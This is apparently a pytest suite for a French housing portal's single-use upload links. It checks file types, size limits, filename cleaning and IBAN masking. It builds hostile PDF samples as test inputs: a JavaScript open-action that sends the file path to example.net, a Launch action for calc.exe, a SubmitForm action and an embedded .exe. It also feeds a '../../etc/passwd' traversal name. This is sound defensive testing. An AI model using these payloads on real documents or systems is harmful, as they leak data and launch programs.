"""Upload links: the action server asks for a link, the tenant sends a real PDF or image from a
browser page, the action server learns it has arrived. Wrong, broken, oversized files and
used, expired or foreign links are refused, and a refusal changes nothing."""

from __future__ import annotations

import asyncio
import html
import io
import re
from datetime import timedelta
from urllib.parse import urlsplit

import httpx
import pytest
from fpdf import FPDF
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)
from sqlalchemy import select, update

from bot.errors import InvalidInput
from bot.portal.models import StoredUpload, UploadSlot, utcnow
from bot.portal.services import uploads
from tests.portal.support import Portal, verify_conversation, words

NGUYEN = "minh.nguyen@example.org"
CLAIRE = "claire.dupont@example.org"
HTML = {"Accept": "text/html"}


def text_of(page: httpx.Response) -> str:
    """What a reader sees of a page: entities decoded, line wrapping undone."""
    return words(html.unescape(page.text))


# --------------------------------------------------------------------------- files


def pdf_file(text: str = "RIB - Relevé d'identité bancaire") -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text=text.encode("latin-1", "replace").decode("latin-1"))
    return bytes(pdf.output())


def image_file(fmt: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 24), (0, 85, 140)).save(buffer, fmt)
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = {NameObject("/S"): NameObject(kind)}
    action.update(
        {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
    )
    return DictionaryObject(action)


def _javascript() -> DictionaryObject:
    return _action("/JavaScript", JS="app.launchURL('https://example.net/?' + this.path)")


def _link(action: DictionaryObject) -> DictionaryObject:
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)])
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect,
            NameObject("/A"): action,
        }
    )


def pdf_with(where: str) -> bytes:
    """A one-page PDF with something a PDF reader runs or opens on its own (or, for the
    ``-ok`` ones, something harmless of the same shape)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    root = writer.root_object
    if where == "open-action-javascript":
        root[NameObject("/OpenAction")] = _javascript()
    elif where == "open-action-launch":
        root[NameObject("/OpenAction")] = _action("/Launch", F="calc.exe")
    elif where == "open-action-submit-form":
        root[NameObject("/OpenAction")] = _action("/SubmitForm", F="https://example.net/")
    elif where == "names-javascript":
        writer.add_open_action(JavaScript("app.alert('bonjour')"))
    elif where == "page-additional-actions":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript()})
    elif where == "document-additional-actions":
        root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _javascript()})
    elif where == "link-javascript":
        page[NameObject("/Annots")] = ArrayObject([_link(_javascript())])
    elif where == "embedded-file":
        writer.add_attachment("facture.exe", b"MZ\x90\x00 not really a program")
    elif where == "open-action-destination-ok":
        root[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    elif where == "link-uri-ok":
        page[NameObject("/Annots")] = ArrayObject(
            [_link(_action("/URI", URI="https://www.example.org/"))]
        )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


ACTIVE_PDFS = [
    "open-action-javascript",
    "open-action-launch",
    "open-action-submit-form",
    "names-javascript",
    "page-additional-actions",
    "document-additional-actions",
    "link-javascript",
    "embedded-file",
]


# --------------------------------------------------------------------------- content rules


@pytest.mark.parametrize(
    ("data", "kinds", "kind", "content_type"),
    [
        pytest.param(pdf_file(), {"pdf"}, "pdf", "application/pdf", id="pdf"),
        pytest.param(pdf_file(), {"pdf", "image"}, "pdf", "application/pdf", id="pdf-or-image"),
        pytest.param(
            pdf_with("open-action-destination-ok"), {"pdf"}, "pdf", "application/pdf", id="opens-p1"
        ),
        pytest.param(pdf_with("link-uri-ok"), {"pdf"}, "pdf", "application/pdf", id="web-link"),
        pytest.param(image_file("PNG"), {"image"}, "image", "image/png", id="png"),
        pytest.param(image_file("JPEG"), {"pdf", "image"}, "image", "image/jpeg", id="jpeg"),
    ],
)
def test_real_pdfs_and_images_are_recognised(
    data: bytes, kinds: set[str], kind: str, content_type: str
) -> None:
    detected = uploads.inspect_file(data, kinds=frozenset(kinds), max_bytes=5_000_000)
    assert (detected.kind, detected.content_type) == (kind, content_type)


@pytest.mark.parametrize(
    ("data", "kinds", "code"),
    [
        pytest.param(b"", {"pdf"}, "file_missing", id="empty"),
        pytest.param(b"Mon RIB: FR76...\n", {"pdf"}, "file_type_not_allowed", id="text-as-pdf"),
        pytest.param(b"<html>%PDF-</html>", {"image"}, "file_type_not_allowed", id="html"),
        pytest.param(image_file(), {"pdf"}, "file_type_not_allowed", id="image-for-pdf-only"),
        pytest.param(pdf_file(), {"image"}, "file_type_not_allowed", id="pdf-for-image-only"),
        pytest.param(b"%PDF-1.7\nnot really a pdf", {"pdf"}, "pdf_unreadable", id="fake-pdf"),
        pytest.param(pdf_file()[:300], {"pdf"}, "pdf_unreadable", id="truncated-pdf"),
        pytest.param(encrypted_pdf(), {"pdf"}, "pdf_encrypted", id="encrypted-pdf"),
        pytest.param(image_file()[:60], {"image"}, "image_unreadable", id="truncated-png"),
        pytest.param(b"\xff\xd8\xff\xe0garbage", {"image"}, "image_unreadable", id="fake-jpeg"),
        pytest.param(b"%PDF-" + b"0" * 10_000, {"pdf"}, "file_too_large", id="too-large"),
    ],
)
def test_wrong_or_broken_files_are_refused(data: bytes, kinds: set[str], code: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        uploads.inspect_file(data, kinds=frozenset(kinds), max_bytes=10_000)
    assert refused.value.code == code


@pytest.mark.parametrize("where", ACTIVE_PDFS)
def test_pdfs_with_active_content_are_refused(where: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        uploads.inspect_file(pdf_with(where), kinds=frozenset({"pdf"}), max_bytes=100_000)
    assert refused.value.code == "pdf_active_content"


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("RIB.pdf", "RIB.pdf"),
        ("C:\\Users\\léa\\Documents\\rib banque.pdf", "rib banque.pdf"),
        ("../../etc/passwd", "passwd"),
        ("rib\x00\n.pdf", "rib.pdf"),
        ("", "document.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("RIB FR76 3000 6000 0112 3456 7890 189.pdf", "RIB [IBAN masqué].pdf"),
        ("rib_FR7630006000011234567890189.pdf", "rib_[IBAN masqué].pdf"),
        ("C:\\scans\\FR 76 3000 6000 0112 3456 7890 189.pdf", "[IBAN masqué].pdf"),
        ("carte 4970.1012.3456.7893.pdf", "carte [carte masquée].pdf"),
        ("IMG_20240312_101530.pdf", "IMG_20240312_101530.pdf"),  # a time, not a code
    ],
    ids=[
        "plain",
        "windows-path",
        "traversal",
        "control-chars",
        "none",
        "long",
        "spaced-iban",
        "compact-iban",
        "iban-after-a-path",
        "card",
        "camera-name",
    ],
)
def test_file_names_lose_paths_and_control_characters(sent: str, kept: str) -> None:
    assert uploads.clean_filename(sent, extension="pdf") == kept


# --------------------------------------------------------------------------- through the portal


async def new_slot(portal: Portal, conversation: str, kinds=("pdf", "image"), purpose="rib"):
    response = await portal.api(
        "/api/v1/uploads", {"purpose": purpose, "kinds": list(kinds)}, conversation_id=conversation
    )
    assert response.status_code == 201, response.text
    return response.json()


async def status_of(portal: Portal, conversation: str, slot_id: int) -> httpx.Response:
    return await portal.client.get(
        f"/api/v1/uploads/{slot_id}", headers=portal.headers(conversation)
    )


async def send(portal: Portal, url: str, name: str, data: bytes, mime: str) -> httpx.Response:
    return await portal.client.post(
        urlsplit(url).path, files={"fichier": (name, data, mime)}, headers=HTML
    )


async def test_a_pdf_sent_through_the_link_reaches_the_action_server(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u1")
    slot = await new_slot(portal, "u1")
    assert slot["upload_url"].startswith(portal.settings.public_base_url + "/depot/")
    assert (await status_of(portal, "u1", slot["slot_id"])).json()["status"] == "waiting"

    form = await portal.open_link(slot["upload_url"])
    assert form.status_code == 200
    assert 'enctype="multipart/form-data"' in form.text
    assert '<label for="fichier">' in form.text
    assert 'accept="application/pdf,.pdf,image/png,image/jpeg,.png,.jpg,.jpeg"' in form.text
    assert "Taille maximale : 5 Mo" in text_of(form) and "votre RIB" in text_of(form)
    assert form.headers["referrer-policy"] == "no-referrer"

    data = pdf_file()
    done = await send(portal, slot["upload_url"], "mon RIB.pdf", data, "application/pdf")
    assert done.status_code == 200
    assert "vous pouvez revenir à la conversation" in text_of(done).lower()

    state = (await status_of(portal, "u1", slot["slot_id"])).json()
    assert (state["status"], state["filename"], state["kind"]) == ("received", "mon RIB.pdf", "pdf")
    async with portal.sessions() as session:
        stored = await uploads.upload_for(session=session, slot_id=slot["slot_id"])
    assert (stored.data, stored.content_type, stored.size) == (data, "application/pdf", len(data))


async def test_a_png_is_accepted_whatever_the_browser_claims(portal: Portal) -> None:
    await verify_conversation(portal, CLAIRE, "u2")
    slot = await new_slot(portal, "u2", kinds=["image"])

    done = await send(portal, slot["upload_url"], "photo", image_file(), "application/octet-stream")

    assert done.status_code == 200
    state = (await status_of(portal, "u2", slot["slot_id"])).json()
    assert (state["status"], state["kind"]) == ("received", "image")
    async with portal.sessions() as session:
        stored = await uploads.upload_for(session=session, slot_id=slot["slot_id"])
    assert stored.content_type == "image/png"


async def test_a_text_file_named_pdf_is_refused_and_the_link_still_works(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u3")
    slot = await new_slot(portal, "u3", kinds=["pdf"])
    before = await portal.snapshot()

    refused = await send(portal, slot["upload_url"], "rib.pdf", b"IBAN FR76...", "application/pdf")

    assert refused.status_code == 400
    assert "n'est pas un PDF" in text_of(refused) and 'role="alert"' in refused.text
    assert 'aria-invalid="true"' in refused.text
    assert await portal.snapshot() == before
    assert (await status_of(portal, "u3", slot["slot_id"])).json()["status"] == "waiting"
    retry = await send(portal, slot["upload_url"], "rib.pdf", pdf_file(), "application/pdf")
    assert retry.status_code == 200


async def test_a_pdf_with_javascript_is_refused_in_french_and_the_link_still_works(
    portal: Portal,
) -> None:
    await verify_conversation(portal, NGUYEN, "u15")
    slot = await new_slot(portal, "u15", kinds=["pdf"])
    before = await portal.snapshot()

    refused = await send(
        portal, slot["upload_url"], "rib.pdf", pdf_with("open-action-javascript"), "application/pdf"
    )

    assert refused.status_code == 400
    page = text_of(refused)
    assert "contient du contenu actif" in page and 'role="alert"' in refused.text
    assert "Enregistrer au format PDF" in page  # and how to send an acceptable copy
    assert await portal.snapshot() == before
    retry = await send(portal, slot["upload_url"], "rib.pdf", pdf_file(), "application/pdf")
    assert retry.status_code == 200


async def test_a_file_over_the_limit_is_refused_with_the_form(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u4")
    slot = await new_slot(portal, "u4")
    too_big = b"%PDF-1.4\n" + b"0" * portal.settings.upload_max_bytes

    refused = await send(portal, slot["upload_url"], "rib.pdf", too_big, "application/pdf")

    assert refused.status_code == 413
    assert "trop volumineux" in text_of(refused) and "Taille maximale : 5 Mo" in text_of(refused)
    assert (await status_of(portal, "u4", slot["slot_id"])).json()["status"] == "waiting"


async def test_a_body_far_over_the_limit_is_cut_short(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u5")
    slot = await new_slot(portal, "u5")
    huge = b"%PDF-1.4\n" + b"0" * (3 * portal.settings.upload_max_bytes)

    try:
        refused = await send(portal, slot["upload_url"], "rib.pdf", huge, "application/pdf")
    except httpx.TransportError:
        pass  # the portal may close the connection before the client has sent everything
    else:
        assert refused.status_code == 413
    assert (await status_of(portal, "u5", slot["slot_id"])).json()["status"] == "waiting"


async def test_the_json_api_still_refuses_large_bodies(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u6")
    response = await portal.api(
        "/api/v1/uploads",
        {"purpose": "rib", "kinds": ["pdf"], "x": "y" * 1_200_000},
        conversation_id="u6",
    )
    assert (response.status_code, response.json()["error"]) == (413, "too_large")


async def test_a_link_works_once(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u7")
    slot = await new_slot(portal, "u7")
    assert (
        await send(portal, slot["upload_url"], "a.pdf", pdf_file("A"), "application/pdf")
    ).status_code == 200

    again = await send(portal, slot["upload_url"], "b.pdf", pdf_file("B"), "application/pdf")
    page = await portal.open_link(slot["upload_url"])

    assert again.status_code == page.status_code == 410
    assert "ne fonctionne qu'une fois" in text_of(again)
    async with portal.sessions() as session:
        stored = list(await session.scalars(select(StoredUpload.filename)))
    assert stored == ["a.pdf"]


async def test_an_expired_link_is_refused(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u8")
    slot = await new_slot(portal, "u8")
    async with portal.sessions.begin() as session:
        await session.execute(update(UploadSlot).values(expires_at=utcnow() - timedelta(seconds=1)))

    page = await portal.open_link(slot["upload_url"])
    sent = await send(portal, slot["upload_url"], "rib.pdf", pdf_file(), "application/pdf")

    assert page.status_code == sent.status_code == 410
    assert "Ce lien a expiré" in text_of(page)
    assert (await status_of(portal, "u8", slot["slot_id"])).json()["status"] == "expired"


async def test_unknown_links_and_tokens_are_not_stored_in_clear(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u9")
    slot = await new_slot(portal, "u9")
    token = slot["upload_url"].rsplit("/", 1)[1]
    async with portal.sessions() as session:
        hashes = list(await session.scalars(select(UploadSlot.token_hash)))
    assert token not in hashes and len(token) >= 40

    page = await portal.open_link(f"{portal.settings.public_base_url}/depot/{'x' * 43}")
    assert page.status_code == 410 and "pas reconnu" in text_of(page)


async def test_slots_belong_to_the_verified_household(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u10")
    await verify_conversation(portal, CLAIRE, "u11")
    slot = await new_slot(portal, "u10")

    foreign = await status_of(portal, "u11", slot["slot_id"])
    missing = await status_of(portal, "u10", slot["slot_id"] + 1000)

    assert (foreign.status_code, foreign.json()) == (missing.status_code, missing.json())
    assert foreign.status_code == 404


async def test_an_unverified_conversation_gets_no_link(portal: Portal) -> None:
    response = await portal.api(
        "/api/v1/uploads", {"purpose": "rib", "kinds": ["pdf"]}, conversation_id="nobody"
    )
    assert (response.status_code, response.json()["error"]) == (401, "not_verified")
    assert (await status_of(portal, "nobody", 1)).status_code == 401


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"purpose": "rib", "kinds": ["exe"]}, "invalid_kinds"),
        ({"purpose": "rib", "kinds": []}, "invalid_kinds"),
        ({"purpose": "rib", "kinds": "pdf"}, "wrong_type"),
        ({"purpose": "RIB!", "kinds": ["pdf"]}, "invalid_purpose"),
        ({"kinds": ["pdf"]}, "missing_field"),
    ],
)
async def test_bad_slot_requests_are_refused(portal: Portal, body: dict, code: str) -> None:
    await verify_conversation(portal, NGUYEN, "u12")
    response = await portal.api("/api/v1/uploads", body, conversation_id="u12")
    assert (response.status_code, response.json()["error"]) == (400, code)


async def test_the_slot_service_gives_an_absolute_single_use_url(portal: Portal) -> None:
    async with portal.sessions.begin() as session:
        slot, url = await uploads.create_upload_slot(
            session=session,
            settings=portal.settings,
            household_id=1,
            purpose="insurance_certificate",
            kinds=frozenset({"pdf"}),
        )
    assert re.fullmatch(re.escape(portal.settings.public_base_url) + r"/depot/[\w-]{43}", url)
    assert slot.kinds == frozenset({"pdf"})
    form = await portal.open_link(url)
    assert (
        "attestation d'assurance" in text_of(form) and 'accept="application/pdf,.pdf"' in form.text
    )
    async with portal.sessions() as session:
        assert await uploads.slot_status(session=session, slot_id=slot.id) == "waiting"
        assert await uploads.upload_for(session=session, slot_id=slot.id) is None


async def test_two_files_sent_at_once_through_one_link_keep_only_one(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u13")
    slot = await new_slot(portal, "u13")

    answers = await asyncio.gather(
        send(portal, slot["upload_url"], "a.pdf", pdf_file("A"), "application/pdf"),
        send(portal, slot["upload_url"], "b.png", image_file(), "image/png"),
    )

    assert sorted(answer.status_code for answer in answers) == [200, 410]
    async with portal.sessions() as session:
        assert len(list(await session.scalars(select(StoredUpload.id)))) == 1


async def test_an_iban_in_the_file_name_is_not_kept(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u16")
    slot = await new_slot(portal, "u16")

    done = await send(
        portal, slot["upload_url"], "RIB FR7630006000011234567890189.pdf", pdf_file(), "x/y"
    )

    assert done.status_code == 200 and "30006000" not in done.text
    state = (await status_of(portal, "u16", slot["slot_id"])).json()
    assert state["filename"] == "RIB [IBAN masqué].pdf"
    async with portal.sessions() as session:
        names = list(await session.scalars(select(StoredUpload.filename)))
    assert names == ["RIB [IBAN masqué].pdf"]


async def test_accented_file_names_survive_the_trip(portal: Portal) -> None:
    await verify_conversation(portal, NGUYEN, "u14")
    slot = await new_slot(portal, "u14")

    await send(portal, slot["upload_url"], "relevé d'identité.pdf", pdf_file(), "application/pdf")

    state = (await status_of(portal, "u14", slot["slot_id"])).json()
    assert state["filename"] == "relevé d'identité.pdf"
